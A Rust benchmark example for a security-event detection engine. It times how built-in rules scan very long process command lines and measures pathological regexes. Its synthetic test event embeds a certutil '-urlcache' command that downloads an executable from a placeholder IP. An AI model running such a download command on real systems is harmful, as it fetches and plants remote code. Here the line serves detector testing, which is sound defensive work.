//! How long one hostile event takes (the figures of docs/limits.md): a
//! process event whose command line is 1 MB or 16 MB long, with the
//! certutil download at its very end, under the built-in rules; and 1 MB of
//! `a` against regexes that backtracking engines take exponential or
//! quadratic time on. Best of ROUNDS scans (5), a fresh scanner each (no
//! memo from an earlier round).
//!
//! `cargo run --release -p landwatch --example long_fields` (here rather
//! than in benches/ so that a release build needs only the library, not the
//! peers the comparison benches build).

use std::sync::Arc;
use std::time::{Duration, Instant};

use landwatch::{Rules, RulesBuilder, Scanner};

fn rounds() -> usize {
    std::env::var("ROUNDS").ok().and_then(|v| v.parse().ok()).unwrap_or(5)
}

/// Best time of `rounds()` scans of `event`, and the detections of the last.
fn best(rules: &Arc<Rules>, event: &[u8]) -> (Duration, usize) {
    let mut best = Duration::MAX;
    let mut found = 0;
    for _ in 0..rounds() {
        let mut scanner = Scanner::new(Arc::clone(rules));
        let t = Instant::now();
        let d = scanner.scan_json(event);
        best = best.min(t.elapsed());
        found = d.map(|d| d.len()).unwrap_or(0);
    }
    (best, found)
}

fn command_line_event(bytes: usize) -> Vec<u8> {
    let mut cmd = String::with_capacity(bytes + 64);
    cmd.push_str("certutil ");
    while cmd.len() < bytes {
        cmd.push_str("xxxxxxxxxxxxxxx ");
    }
    cmd.push_str("-urlcache -f http://198.51.100.7/a.exe a.exe");
    let event = serde_json::json!({
        "EventID": 1,
        "Image": "C:\\Windows\\System32\\certutil.exe",
        "CommandLine": cmd,
    });
    serde_json::to_vec(&event).unwrap_or_default()
}

fn main() {
    let builtin = match RulesBuilder::new().add_builtin().build() {
        Ok(r) => Arc::new(r),
        Err(e) => panic!("the built-in rules compile: {e}"),
    };
    println!("command line under the built-in rules ({} rules):", builtin.len());
    for mb in [1usize, 16] {
        let event = command_line_event(mb << 20);
        let (t, n) = best(&builtin, &event);
        let rate = (event.len() as f64 / (1 << 20) as f64) / t.as_secs_f64();
        println!("  {mb:>2} MB: {:>9.1} ms  {rate:>6.0} MB/s  {n} detections", t.as_secs_f64() * 1e3);
    }
    let a = serde_json::to_vec(&serde_json::json!({ "EventID": 1, "Image": "a".repeat(1 << 20) }))
        .unwrap_or_default();
    println!("1 MB of 'a' in Image against one regex rule:");
    for re in [r"(a|aa)*\d", r"(a+)+\d", r"(a*)*\d", r"^(a|a?)+$"] {
        let text = format!("rule b.re {{ title: \"re\" level: low when: Image matches '{re}' }}");
        let rules = match RulesBuilder::new().add_source("re.lw", &text).build() {
            Ok(r) => Arc::new(r),
            Err(e) => panic!("{re}: {e}"),
        };
        let (t, n) = best(&rules, &a);
        println!("  {re:<12} {:>9.1} ms  {n} detections", t.as_secs_f64() * 1e3);
    }
}
